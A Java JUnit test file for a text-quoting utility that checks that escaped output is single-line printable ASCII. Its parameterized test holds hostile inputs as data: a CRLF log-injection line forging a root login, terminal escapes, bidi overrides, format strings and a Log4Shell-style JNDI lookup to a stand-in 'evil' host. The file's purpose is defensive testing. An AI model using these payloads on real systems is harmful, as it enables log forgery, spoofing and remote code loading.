package dev.levada.contract;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class QuotedTest {
    @Test
    void plainTextStandsInQuotes() {
        assertThat(Quoted.of("")).isEqualTo("\"\"");
        assertThat(Quoted.of("/chat/blue room?~")).isEqualTo("\"/chat/blue room?~\"");
    }

    @Test
    void quotesAndBackslashesCannotEndIt() {
        assertThat(Quoted.of("a\" b\\")).isEqualTo("\"a\\\" b\\\\\"");
    }

    /// T-101: line breaks, terminal escapes, bidi marks, format strings, look-ups, lone surrogates.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\r\n2026-11-21 INFO root logged in",
                "x\n",
                "\u001b[2J\u001b[31mred",
                "\u009b31m",
                "\u202eevil\u202c",
                "\u2066\u2069\u200e",
                "\u2028\u2029\u0085",
                "\u0000\u0007\b\f\u007f",
                "\ufeff\ufffe\uffff",
                "\ud800",
                "\udc00\ud800",
                "%s%n%x ${jndi:ldap://evil/a} {0} {}",
                "\u00e9\u0430\ud83d\ude00",
            })
    void nothingButPrintableAsciiLeaves(String text) {
        assertThat(Quoted.of(text)).matches("\"[ -~]*\"").hasLineCount(1);
    }

    @Test
    void escapesAreThoseOfJava() {
        assertThat(Quoted.of("\n\u001b\u202e\ud83d\ude00")).isEqualTo("\"\\u000a\\u001b\\u202e\\ud83d\\ude00\"");
    }

    @Test
    void longTextIsCutAndItsLengthNamed() {
        assertThat(Quoted.of("x".repeat(80))).isEqualTo("\"" + "x".repeat(80) + "\"");
        assertThat(Quoted.of("x".repeat(81))).isEqualTo("\"" + "x".repeat(80) + "...\" (81 chars)");
        assertThat(Quoted.of("\n".repeat(10_000_000))).hasSizeLessThan(600);
    }
}
